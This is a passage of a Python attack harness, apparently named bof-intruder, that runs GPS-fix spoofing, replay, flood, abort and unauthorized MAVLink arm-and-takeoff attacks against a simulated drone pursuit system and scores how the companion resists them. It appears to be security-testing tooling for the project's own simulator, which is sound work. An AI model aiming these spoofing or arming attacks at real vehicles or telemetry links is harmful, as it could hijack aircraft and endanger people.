            notes.append(f"spoofs seen accepted {spoofs_accepted}")
        if before is not None:
            rejected = sum(last.link.rejected.values()) - sum(before.link.rejected.values())
            heard = [fix for t, fix, _ in genuine if start <= t <= end]
            accepted = last.link.accepted - before.link.accepted
            genuine_accepted = max(0, accepted - spoofs_accepted)
            refused = min(max(0, sent - spoofs_accepted), max(0, rejected - max(0, len(heard) - genuine_accepted)))
            reasons = {k: v - before.link.rejected.get(k, 0) for k, v in last.link.rejected.items()
                       if v - before.link.rejected.get(k, 0) > 0}
            notes.append(f"rejects {reasons or 'none'}; genuine heard {len(heard)}, accepted {accepted}")
        genuine_ids = {(fix.seq, fix.stamp) for _, fix, _ in genuine}
        # Gaps between the stamps of successive genuine fixes the companion accepted (its last_seq/last_stamp),
        # from the last one before the attack to the end of the window.
        first = before or window[0]
        last_id = (first.link.last_seq, first.link.last_stamp)
        since = first.link.last_stamp if last_id in genuine_ids else first.stamp
        lockout = 0.0
        for state in window:
            ident = (state.link.last_seq, state.link.last_stamp)
            if ident in genuine_ids and ident != last_id:
                lockout = max(lockout, state.link.last_stamp - since)
                since, last_id = state.link.last_stamp, ident
        lockout = max(lockout, last.stamp - since)
        exact = _rx_accounting(rx_log, start, end, spoof_ids, genuine_ids, last.stamp) if rx_log else None
        if exact is not None:
            spoofs_accepted, lockout = exact
            refused = max(0, sent - spoofs_accepted) if spoof_ids else refused
            notes.append(f"from zenoh_rx.jsonl: spoofs accepted {spoofs_accepted}")
        min_range = kept = None
        if len(genuine) >= 2:
            stamps = np.array([fix.stamp for _, fix, _ in genuine])
            positions = np.array([self._ned(fix) for _, fix, _ in genuine])
            inside = [s for s in window if stamps[0] <= s.stamp <= stamps[-1] + 1.0
                      and all(v is not None for v in s.pursuer.position)]
            truth = lambda t: np.array([np.interp(t, stamps, positions[:, i]) for i in range(3)])  # noqa: E731
            ranges = [float(np.linalg.norm(truth(s.stamp) - np.array(s.pursuer.position))) for s in inside]
            if ranges:
                min_range = min(ranges)
                end_state = inside[-1]
                estimate = end_state.estimate
                if estimate is not None and estimate.range is not None:
                    kept = (abs(estimate.range - ranges[-1]) < 1.0
                            and desired_range / 2 <= ranges[-1] <= 2 * desired_range)
                    notes.append(f"end: range {ranges[-1]:.1f} m, estimated {estimate.range:.1f} m")
        phases = [(before or window[0]).phase]
        for state in window:
            if state.phase != phases[-1]:
                phases.append(state.phase)
        notes.append(f"phase {'->'.join(phases)}")
        return Row(attack, sent, refused, kept, round(lockout, 2), None if min_range is None else round(min_range, 2),
                   "; ".join(notes))


def _rx_accounting(rx_log: Path, start: float, end: float, spoof_ids: set, genuine_ids: set,
                   end_stamp: float) -> tuple[int, float] | None:
    """(spoofs accepted, lockout s) from the companion's per-fix log, None if it cannot be read.

    A fix accepted within [start, end] (monotonic s) whose (seq, stamp) an attack sent is a spoof (a replay
    repeats genuine ids, but only its copies arrive in the window); lockout is the longest gap between the
    stamps of successive accepted genuine fixes, from the last one before `start` to `end_stamp`."""
    try:
        lines = Path(rx_log).read_text(errors="replace").splitlines()
    except OSError:
        return None
    accepted = []
    for line in lines:
        try:
            record = json.loads(line)
        except ValueError:
            continue  # a line cut by the writer
        if isinstance(record, dict) and record.get("verdict") == "accepted" and "received_ns" in record:
            accepted.append((record["received_ns"] * 1e-9, (record.get("seq"), record.get("stamp"))))
    inside = [(t, ident) for t, ident in accepted if start <= t <= end]
    spoofs = sum(1 for _, ident in inside if ident in spoof_ids)
    before = [ident for t, ident in accepted if t < start and ident in genuine_ids]
    if not before:
        return None
    since = before[-1][1]
    lockout = 0.0
    for _, ident in inside:
        if ident in genuine_ids and ident not in spoof_ids and ident[1] > since:
            lockout = max(lockout, ident[1] - since)
            since = ident[1]
    return spoofs, max(lockout, end_stamp - since)


# --- finding a running SITL ------------------------------------------------------------------

@dataclass
class SitlEndpoints:
    """Where a running SITL is: the Zenoh endpoint, the plant's ground-station socket (host, port) and run folder."""

    zenoh: str | None = None
    namespace: str | None = None
    gcs: tuple[str, int] | None = None
    gcs_partner: tuple[str, int] | None = None
    run: Path | None = None


def find_run(path: Path) -> Path:
    """`path` if it is a bof-sitl run folder (has target.out), else the newest sitl-* folder inside it."""
    path = Path(path)
    if (path / "target.out").exists():
        return path
    runs = sorted(path.glob("sitl-*/target.out"), key=lambda p: p.stat().st_mtime)
    if not runs:
        raise FileNotFoundError(f"no bof-sitl run folder (with target.out) in {path}")
    return runs[-1].parent


def discover(run: Path) -> SitlEndpoints:
    """Endpoints of a running bof-sitl from its run folder: the Zenoh endpoint the target connected to
    (target.out's ready line) and the plant's ground-station link (plant/stats.json, rewritten every s)."""
    run = find_run(run)
    found = SitlEndpoints(run=run)
    links = run / "links.json"  # written by bof-sitl at start: endpoint, namespace, ports
    if links.exists():
        zenoh_links = json.loads(links.read_text())["zenoh"]
        found.zenoh, found.namespace = zenoh_links["endpoint"], zenoh_links["namespace"]
    match = None if found.zenoh else re.search(r"connect \[['\"]((?:tcp|tls)/[^'\"]+)['\"]", (run / "target.out").read_text(errors="replace"))
    if match:
        found.zenoh = match.group(1)
    stats = run / "plant" / "stats.json"
    if stats.exists():
        try:
            gcs = json.loads(stats.read_text())["links"]["gcs"]
            found.gcs = (gcs["bound"][0], int(gcs["bound"][1]))
            found.gcs_partner = (gcs["partner"][0], int(gcs["partner"][1]))
        except (ValueError, KeyError, TypeError):
            pass
    return found


def plant_counters(run: Path | None) -> dict | None:
    """The plant's MAVLink counters (plant/stats.json: received, ignored, rejected, commands) and armed flag."""
    if run is None or not (run / "plant" / "stats.json").exists():
        return None
    try:
        stats = json.loads((run / "plant" / "stats.json").read_text())
    except ValueError:  # caught mid-rewrite
        time.sleep(0.2)
        stats = json.loads((run / "plant" / "stats.json").read_text())
    return {**stats["mavlink"], "armed": stats.get("armed"), "mode": stats.get("mode")}


def _delta(after: dict, before: dict) -> dict:
    return {k: v - before.get(k, 0) for k, v in after.items() if v - before.get(k, 0)}


# --- command line ----------------------------------------------------------------------------

#: The patient liars: a steady spoof in the genuine epoch, seq 1 ahead, 10 ms after each genuine fix it hears, its
#: offset drifting at this velocity (NED m/s) without bound: as plausible as the truth, and first.
PATIENT_LIARS = {"patient-liar": (0.5, 0.0, 0.0), "patient-liar-altitude": (0.0, 0.0, 0.5)}
ZENOH_ATTACKS = ("future-seq", "future-stamp", "replay", "burst", "steady-spoof", *PATIENT_LIARS, "abort", "unknown-peer",
                 "zenoh-flood")
MAVLINK_ATTACKS = ("arm", "mavlink-flood")


@dataclass
class AttackOptions:
    """What `run_attack` needs besides the endpoints; the defaults are bof-intruder's (see its --help).

    attack: one of ZENOH_ATTACKS + MAVLINK_ATTACKS. config: the SITL's scenario (None: bof-sitl's default).
    zenoh_tls/role: the intruder's TLS folder and certificate (role None: no certificate). observer_tls/
    observer_role: the observing ground station's. epoch: 'genuine', 'new' or an int. Times in wall seconds."""

    attack: str
    config: Path | None = None
    target_sender: str | None = None
    companion_id: str | None = None
    mavlink: str | None = None
    zenoh_tls: Path | None = None
    role: str | None = None
    observer_tls: Path | None = None
    observer_role: str = "gcs"
    epoch: str | None = None
    seq_lead: int | None = None
    rate: float | None = None
    duration: float = 10.0
    record: float = 5.0
    observe: float = 15.0
    wait: float = 120.0
    settle: float = 2.0
    when_following: bool = False
    signing_key: Path | None = None
    takeoff: float | None = None


def run_attack(endpoints: SitlEndpoints, options: AttackOptions) -> dict:
    """Run one attack against the SITL at `endpoints` and observe it; returns {"row": Row as a dict, ...}
    (what was sent, the plant's counters, the endpoints). For bof-campaign --sitl: start bof-sitl, find its
    run folder (find_run), then run_attack(discover(folder), AttackOptions("burst", when_following=True))."""
    if options.attack in ZENOH_ATTACKS:
        if endpoints.zenoh is None:
            raise ValueError("no Zenoh endpoint: pass --zenoh or --run")
        return run_zenoh_attack(options, endpoints)
    if options.attack in MAVLINK_ATTACKS:
        return run_mavlink_attack(options, endpoints)
    raise ValueError(f"unknown attack {options.attack!r}; expected one of {ZENOH_ATTACKS + MAVLINK_ATTACKS}")


def _home_and_ids(config: Path | None) -> tuple[Sequence[float] | None, str, str, float, float]:
    from interfaces.scenario import DEFAULT_SCENARIO, load_scenario

    scenario, _ = load_scenario(config or DEFAULT_SCENARIO)
    return (scenario.sitl.home, scenario.link.target_sender, scenario.link.companion_id,
            scenario.guidance.desired_range, scenario.sensor.rate_hz)


def run_zenoh_attack(args: AttackOptions, endpoints: SitlEndpoints) -> dict:
    home, target_sender, companion_id, desired_range, fix_rate = _home_and_ids(args.config)
    target_sender = args.target_sender or target_sender
    companion_id = args.companion_id or companion_id
    observer_tls = Tls.from_dir(args.observer_tls, args.observer_role) if args.observer_tls else None
    intruder_tls = None
    if args.zenoh_tls:
        intruder_tls = Tls.from_dir(args.zenoh_tls, args.role) if args.role else Tls(Path(args.zenoh_tls) / "ca.pem")
    observer = Observer(endpoints.zenoh, target_sender, companion_id, home, observer_tls, endpoints.namespace)
    session = None
    try:
        if not observer.wait(lambda: observer.latest_genuine() is not None and observer.latest_state() is not None,
                             args.wait):
            raise RuntimeError(f"no genuine fix and companion state heard on {endpoints.zenoh} within {args.wait:g} s")
        if args.when_following and not observer.wait(
                lambda: (s := observer.latest_state()) is not None and s.phase == "following", args.wait):
            raise RuntimeError(f"the companion did not reach 'following' within {args.wait:g} s")
        recorded = observer.record(args.record) if args.attack == "replay" else []
        time.sleep(args.settle)
        plant_before = plant_counters(endpoints.run)
        start = time.monotonic()
        baseline = observer.latest_state()
        if args.attack == "unknown-peer":
            sent = unknown_peer(endpoints.zenoh, intruder_tls, observer.latest_genuine, listen_s=args.duration,
                                namespace=endpoints.namespace)
        else:
            session = open_peer(endpoints.zenoh, intruder_tls, endpoints.namespace)
            ref = observer.latest_genuine()
            if args.attack == "future-seq":
                sent = spoof_future_seq(session, observer.latest_genuine, epoch=args.epoch)
            elif args.attack == "future-stamp":
                sent = spoof_future_stamp(session, observer.latest_genuine, epoch=args.epoch)
            elif args.attack == "replay":
                sent = replay(session, target_sender, recorded)
            elif args.attack == "burst":
                sent = spoof_burst(session, observer.latest_genuine, seq_lead=args.seq_lead if args.seq_lead is not None else BURST_SEQ_LEAD,
                                   epoch=args.epoch)
            elif args.attack == "steady-spoof":
                sent = spoof_steady(session, observer.latest_genuine, rate_hz=args.rate or fix_rate, duration=args.duration,
                                    seq_lead=args.seq_lead if args.seq_lead is not None else 1, epoch=args.epoch)
            elif args.attack in PATIENT_LIARS:
                sent = spoof_steady(session, observer.latest_genuine, rate_hz=args.rate or fix_rate, duration=args.duration,
                                    drift=PATIENT_LIARS[args.attack], max_offset=math.inf,
                                    seq_lead=args.seq_lead if args.seq_lead is not None else 1, epoch=args.epoch)
            elif args.attack == "abort":
                sent = send_abort(session, companion_id, stamp=ref.stamp)
            else:
                sent = zenoh_flood(session, target_sender, companion_id, rate_hz=args.rate or 500.0,
                                   duration=args.duration)
        if args.attack != "replay":  # replayed payloads are genuine ones, heard first from the target
            observer.exclude.update(sent.payloads)
        time.sleep(args.observe)
        ours = set(sent.payloads)
        delivered = sum(1 for _, _, p in list(observer.fixes) if p in ours)
        row = observer.row(args.attack, sent.count, start, time.monotonic(), desired_range=desired_range,
                           refused_baseline=baseline,
                           notes=[f"schema {link.TARGET_FIX_SCHEMA}", f"matched {sent.matched}",
                                  f"delivered to observer {delivered}"], spoofed=sent.payloads,
                           rx_log=endpoints.run / "companion" / "zenoh_rx.jsonl" if endpoints.run else None)
        return {"row": row.as_dict(), "sent": sent.summary(), "plant_before": plant_before,
                "endpoints": {"zenoh": endpoints.zenoh, "run": str(endpoints.run) if endpoints.run else None}}
    finally:
        if session is not None:
            session.close()
        observer.close()


def run_mavlink_attack(args: AttackOptions, endpoints: SitlEndpoints) -> dict:
    url = args.mavlink or (f"udpout:{endpoints.gcs[0]}:{endpoints.gcs[1]}" if endpoints.gcs else None)
    if url is None:
        raise RuntimeError("no MAVLink target: pass --mavlink URL or --run with a plant/stats.json")
    before = plant_counters(endpoints.run)
    if args.attack == "arm":
        key = read_signing_key(args.signing_key) if args.signing_key else None
        result = mavlink_arm(url, signing_key=key, takeoff_altitude=args.takeoff, observe_s=args.observe)
    else:
        match = re.fullmatch(r"udpout:([^:]+):(\d+)", url)
        if match is None:  # a udpin URL names where the plant sends, not the plant's own socket
            raise ValueError(f"mavlink-flood needs the plant's socket: --mavlink udpout:HOST:PORT or --run, not {url}")
        result = mavlink_flood(match.group(1), int(match.group(2)), rate_hz=args.rate or 500.0, duration=args.duration)
    after = plant_counters(endpoints.run)
    out = {"result": dataclasses.asdict(result), "url": url}
    if before is not None and after is not None:
        out["plant"] = {"rejected": _delta(after["rejected"], before["rejected"]),
                        "ignored": _delta(after["ignored"], before["ignored"]),
                        "commands": _delta(after["commands"], before["commands"]),
                        "armed_before": before["armed"], "armed_after": after["armed"], "mode_after": after["mode"]}
    refused = sum(out["plant"]["rejected"].values()) if "plant" in out else None
    # target kept / lockout / min range are the companion's business; a MAVLink row says whether the vehicle armed.
    out["row"] = Row(args.attack + (" (signed)" if result.signed else ""), sum(result.sent.values()), refused, None,
                     None, None, "; ".join([f"acks {result.acks}", f"armed {result.armed_before}->{result.armed_after}",
                                            f"max rel alt {result.max_relative_alt}", *result.notes])).as_dict()
    return out


def build_parser() -> argparse.ArgumentParser:
    """The argument parser of `bof-intruder` (the CLI reference page prints its help)."""
    parser = CommandParser(prog="bof-intruder", description=__doc__.split("\n\n")[0])
    parser.add_argument("attack", choices=ZENOH_ATTACKS + MAVLINK_ATTACKS, help="which attack (see the module docstring)")
    parser.add_argument("--run", type=Path, default=None,
                        help="a running bof-sitl's run folder, or its parent (the newest sitl-* inside): the Zenoh "
                             "endpoint and the plant's ground-station socket are read from it (default: none)")
    parser.add_argument("--zenoh", default=None, help="Zenoh endpoint to connect to, e.g. tcp/127.0.0.1:7447 (default: from --run)")
    parser.add_argument("--zenoh-namespace", default=None, metavar="NAME",
                        help="the run's Zenoh namespace (default: from --run's links.json; a plain bof-sitl run has one)")
    parser.add_argument("--mavlink", default=None,
                        help="pymavlink URL of the plant's ground-station link, e.g. udpout:127.0.0.1:PORT or "
                             "udpin:127.0.0.1:14550 (default: udpout to the socket in --run's plant/stats.json)")
    parser.add_argument("--config", type=scenario_file, default=None,
                        help="the SITL's scenario (home, target sender, companion id, r_d, fix rate; default: bof-sitl's)")
    parser.add_argument("--target-sender", default=None, help="target sender id (default: the scenario's)")
    parser.add_argument("--companion-id", default=None, help="companion id (default: the scenario's)")
    parser.add_argument("--zenoh-tls", type=Path, default=None, metavar="DIR",
                        help="the intruder's TLS folder (DIR/ca.pem, and DIR/<role>.pem/.key with --role); use "
                             "one from another `bof-certs` to attack with a foreign CA (default: plain TCP)")
    parser.add_argument("--role", default=None, help="the intruder's certificate in --zenoh-tls (default: none: no certificate)")
    parser.add_argument("--observer-tls", type=Path, default=None, metavar="DIR",
                        help="TLS folder of the observing ground station (a secure SITL's PKI; default: plain TCP)")
    parser.add_argument("--observer-role", default="gcs", help="the observer's identity in --observer-tls (default: %(default)s)")
    parser.add_argument("--epoch", default=None,
                        help="epoch of spoofed fixes where the schema has one: 'genuine' (sniffed), 'new', or an int "
                             "(default: genuine)")
    parser.add_argument("--seq-lead", type=int, default=None,
                        help="burst / steady-spoof: seq this far ahead of the genuine one (default: 1e6 / 1)")
    parser.add_argument("--rate", type=float, default=None,
                        help="floods: messages/s (default 500); steady-spoof: fixes/s (default: the fix rate)")
    parser.add_argument("--duration", type=float, default=10.0,
                        help="floods, steady-spoof, unknown-peer: wall seconds (default: %(default)s)")
    parser.add_argument("--record", type=float, default=5.0, help="replay: wall seconds of genuine fixes to record first (default: %(default)s)")
    parser.add_argument("--observe", type=float, default=15.0, help="wall seconds to watch after the attack (default: %(default)s)")
    parser.add_argument("--wait", type=float, default=120.0,
                        help="wall seconds to wait for the SITL (genuine fixes, companion state) (default: %(default)s)")
    parser.add_argument("--settle", type=float, default=2.0, help="wall seconds of baseline before attacking (default: %(default)s)")
    parser.add_argument("--when-following", action="store_true", help="Zenoh attacks: wait until the companion follows")
    parser.add_argument("--signing-key", type=Path, default=None, metavar="FILE",
                        help="arm: sign with this key (64 hex chars), the genuine ground station's path (default: unsigned)")
    parser.add_argument("--takeoff", type=float, default=None, metavar="METRES",
                        help="arm: also send NAV_TAKEOFF to this height above home (default: arm only)")
    parser.add_argument("--json", type=Path, default=None, help="also write the result here (default: stdout only)")
    return parser


def main(argv: list[str] | None = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    for name in ("rate", "duration", "observe", "wait", "record"):
        value = getattr(args, name)
        if value is not None and not (math.isfinite(value) and value > 0):
            parser.error(f"--{name} must be positive, got {value}")
    if args.settle is not None and not (math.isfinite(args.settle) and args.settle >= 0):
        parser.error(f"--settle must be >= 0 s, got {args.settle}")
    if args.takeoff is not None and not (math.isfinite(args.takeoff) and args.takeoff > 0):
        parser.error(f"--takeoff must be a positive height in metres, got {args.takeoff}")
    if args.seq_lead is not None and args.seq_lead < 1:
        parser.error(f"--seq-lead must be >= 1 (how far ahead of the genuine sequence), got {args.seq_lead}")
    try:
        endpoints = discover(args.run) if args.run else SitlEndpoints()
        endpoints.zenoh = args.zenoh or endpoints.zenoh
        endpoints.namespace = args.zenoh_namespace or endpoints.namespace
        result = run_attack(endpoints, AttackOptions(**{f.name: getattr(args, f.name)
                                                        for f in dataclasses.fields(AttackOptions)}))
    except (RuntimeError, LinkError, FileNotFoundError, ValueError, link.PayloadError) as error:
        print(f"bof-intruder: {error}", file=sys.stderr)
        return 1
    text = json.dumps(result, indent=2, default=str)
    if args.json:
        args.json.write_text(text + "\n")
    print(text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
